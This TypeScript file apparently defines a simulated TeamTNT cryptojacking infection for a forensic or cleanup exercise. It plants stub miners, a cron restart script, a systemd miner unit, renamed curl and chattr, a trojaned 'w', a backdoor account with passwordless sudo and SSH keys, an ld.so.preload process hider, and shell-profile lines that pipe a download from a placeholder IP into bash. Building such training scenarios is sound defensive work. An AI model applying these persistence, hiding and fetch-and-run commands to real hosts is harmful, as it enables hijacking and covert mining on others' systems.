import { endsHere, type Infection, type Item, minerWords, poolPort, shyMiner, wallet } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const den = '/var/tmp/.crypto/...'
const copies = '/var/tmp/.copydie'
const fetch = '{ /usr/bin/cdz -fsSL http://203.0.113.77/a.sh | bash; } >/dev/null 2>&1'
const keeper = [
  '#!/bin/bash',
  endsHere,
  `# Restarts the program while its log is older than ten minutes.`,
  `find ${copies}/[[]kswapd0].log -mmin -10 | grep -q . && exit 0`,
  `nohup '${copies}/[kswapd0]' >>'${copies}/[kswapd0].log' 2>&1 &`,
  '',
].join('\n')
const settings = `${JSON.stringify({ 'donate-level': 0, pools: [{ url: `127.0.0.1:${poolPort}`, user: wallet, keepalive: true, nicehash: true }], randomx: { wrmsr: true }, cpu: { 'max-threads-hint': 75 } })}\n`

/** families.md §6: names in brackets below directories of dots, renamed tools, every login fetches it again. */
export const teamtnt: Infection = {
  family: 'teamtnt',
  known: true,
  title: 'TeamTNT: bracketed names, renamed tools, and shells that fetch it again',
  story: [
    'Miners lie below directories named with dots; one is called [kswapd0] as if it were a thread of the kernel, and its settings a pid file.',
    'curl became cdz and chattr became tntrecht; chmod was made useless; w leaves the intruder out.',
    'Every .bashrc and .profile fetches the dropper: whoever logs in to clean starts it again.',
    'An account hilde, its lines repeated in passwd and shadow, may do everything; its keys lie in both key files.',
    'A preloaded library hides the parts; the history of root leads nowhere.',
  ],
  items: [
    { kind: 'directory', path: '/var/tmp/.crypto' },
    { kind: 'directory', path: den },
    {
      kind: 'file',
      path: `${den}/.ddns`,
      content: { lookalike: { ...shyMiner, stubborn: true, once: 'ddns' }, words: minerWords },
      mode: 0o755,
    },
    { kind: 'file', path: `${den}/.ddns.pid`, content: { text: settings } },
    { kind: 'file', path: `${den}/.ddns.log`, content: { text: 'started\n' } },
    { kind: 'file', path: `${den}/httpd`, content: { lookalike: {}, words: 'teamtnt bot' }, mode: 0o755 },
    { kind: 'directory', path: copies },
    {
      kind: 'file',
      path: `${copies}/[kswapd0]`,
      content: { lookalike: { ...shyMiner, title: '[kswapd0]', once: 'kswapd0-tnt' }, words: `${minerWords}\ncopydie` },
      mode: 0o755,
    },
    { kind: 'file', path: `${copies}/[kswapd0].sh`, content: { text: keeper }, mode: 0o755 },
    { kind: 'file', path: `${copies}/[kswapd0].pid`, content: { text: '1234\n' } },
    { kind: 'file', path: `${copies}/[kswapd0].log`, content: { text: 'speed 10s/60s/15m\n' } },
    {
      kind: 'line',
      path: '/etc/crontab',
      text: `*/5 * * * * root bash '${copies}/[kswapd0].sh' >/dev/null 2>&1`,
    },
    {
      kind: 'file',
      path: '/usr/bin/bioset',
      content: { lookalike: { title: '[bioset]' }, words: 'teamtnt irc bot' },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/etc/systemd/system/moneroocean_miner.service',
      content: {
        text: `[Unit]\nDescription=Monero miner service\n\n[Service]\nExecStart=${den}/.ddns --config=${den}/.ddns.pid\nRestart=always\nNice=10\nCPUWeight=1\n\n[Install]\nWantedBy=multi-user.target\n`,
      },
    },
    { kind: 'unit', name: 'moneroocean_miner.service', path: '/etc/systemd/system/moneroocean_miner.service' },
    { kind: 'rename', path: '/usr/bin/curl', to: '/usr/bin/cdz' },
    { kind: 'rename', path: '/usr/bin/chattr', to: '/usr/bin/tntrecht' },
    { kind: 'mode', path: '/usr/bin/chmod', mode: 0o644, mask: 'r' },
    { kind: 'file', path: '/usr/bin/w.lanigiro', content: { copyOf: '/usr/bin/w' }, mode: 0o755 },
    {
      kind: 'file',
      path: '/usr/bin/w',
      content: { text: '#!/bin/bash\nw.lanigiro "$@" | grep -v \'hilde\\|ddns\\|httpd\'\n' },
      mode: 0o755,
      daysOld: 2200,
      after: 'restored',
    },
    ...['/root', '/home/deploy', '/home/science'].flatMap((home): Item[] => {
      const owner = home === '/root' ? {} : { owner: home.slice(6) }
      return [
        { kind: 'line', path: `${home}/.bashrc`, text: fetch, ...owner },
        { kind: 'line', path: `${home}/.profile`, text: fetch, ...owner },
      ]
    }),
    {
      kind: 'account',
      name: 'hilde',
      uid: 1000,
      home: '/home/hilde',
      shadow: '$6$davylamprange$1111111111111111111111111111111111111111111111111111111111111111111111111111111111111.',
      copies: 6,
    },
    ...['authorized_keys', 'authorized_keys2'].map(
      (name): Item => ({
        kind: 'line',
        path: `/home/hilde/.ssh/${name}`,
        text: loginKey('ssh-rsa', 'teamtnt', 'root@puppetserver'),
        owner: 'hilde',
        mode: 0o600,
        attributes: 'i',
      }),
    ),
    { kind: 'line', path: '/etc/sudoers', text: 'hilde ALL=(ALL) NOPASSWD:ALL', mode: 0o440 },
    { kind: 'link', path: '/root/.bash_history', to: '/dev/null' },
    {
      kind: 'file',
      path: '/usr/local/lib/libprocesshider.so',
      content: { library: 'hide-readdir', hides: ['.copydie', '[kswapd0]'] },
      mode: 0o755,
    },
    { kind: 'line', path: '/etc/ld.so.preload', text: '/usr/local/lib/libprocesshider.so', mode: 0o644 },
    { kind: 'process', path: `${den}/.ddns`, argv: [], startedBy: 'moneroocean_miner.service' },
    { kind: 'process', path: `${copies}/[kswapd0]`, argv: ['[kswapd0]'] },
    { kind: 'process', path: '/usr/bin/bioset', argv: ['[bioset]'] },
  ],
}
